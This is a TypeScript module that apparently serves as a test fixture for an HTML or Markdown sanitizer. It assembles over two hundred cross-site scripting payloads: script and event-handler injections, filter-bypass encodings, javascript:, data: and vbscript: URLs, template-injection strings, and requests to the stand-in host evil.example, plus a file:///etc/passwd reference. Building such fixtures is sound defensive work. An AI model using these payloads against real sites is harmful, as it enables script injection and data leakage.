/** A foreign address that no page may ask for anything. */
export const FOREIGN = "https://evil.example";

const CALL = "window.__xss=1";
const GET = `fetch('${FOREIGN}/x')`;

const EVENTS = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onanimationstart",
  "onbegin",
];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "input autofocus",
  "details open",
  "iframe",
  "math",
  "marquee",
];

const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src="${FOREIGN}/a.js"></script>`,
  `<script type="module">import "${FOREIGN}/a.js"</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="${FOREIGN}/a.svg"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<base href="${FOREIGN}/">`,
  `<link rel="stylesheet" href="${FOREIGN}/a.css">`,
  `<link rel="prefetch" href="${FOREIGN}/p">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
  `<style>@import "${FOREIGN}/a.css";*{background:url(${FOREIGN}/b)}</style>`,
  `<div style="background:url(${FOREIGN}/c)">x</div>`,
  `<form action="${FOREIGN}"><button autofocus onfocus=${CALL}>x</button></form>`,
  `<form id=f action="javascript:${CALL}"><input type=submit></form>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><use href="${FOREIGN}/s.svg#x"></use></svg>`,
  `<svg><image href="${FOREIGN}/i.png"></image></svg>`,
  `<svg><foreignObject><script>${CALL}</script></foreignObject></svg>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<table background="${FOREIGN}/t">`,
  `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  `<video poster="${FOREIGN}/p.png"></video>`,
  `<picture><source srcset="${FOREIGN}/s.png"><img src=x></picture>`,
  `<img srcset="${FOREIGN}/s.png 1x">`,
  `<img src="${FOREIGN}/i.png">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="${FOREIGN}" ping="${FOREIGN}/ping">x</a>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<isindex action="javascript:${CALL}">`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<dialog open onclose=${CALL}>`,
  "<img src=x onerror=&#119;indow.__xss=1>",
  "<img src=x onerror=\\u0077indow.__xss=1>",
  `<img/src/onerror=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `<<img src=x onerror=${CALL}>`,
  `\u0000<script>${CALL}</script>`.replace("\u0000", "%00"),
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
];

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#10;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>opener.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${CALL}"/>`,
  `blob:${FOREIGN}/x`,
  `filesystem:${FOREIGN}/x`,
  `file:///etc/passwd`,
  `view-source:javascript:${CALL}`,
  `//evil.example/x`,
  `${FOREIGN}/x`,
];

/** Markdown that leads somewhere, or shows something, at an address. */
const AROUND = (url: string) => [
  `[x](${url})`,
  `[x](<${url}>)`,
  `![x](${url})`,
  `<${url}>`,
  `[x][r]`,
  `[![x](${url})](${url})`,
];

/** More than two hundred texts that would run, or ask a foreign address, wherever a page takes text for markup. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}="${CALL};${GET}">`)),
    ...SCHEMES.flatMap(AROUND),
  ]),
];
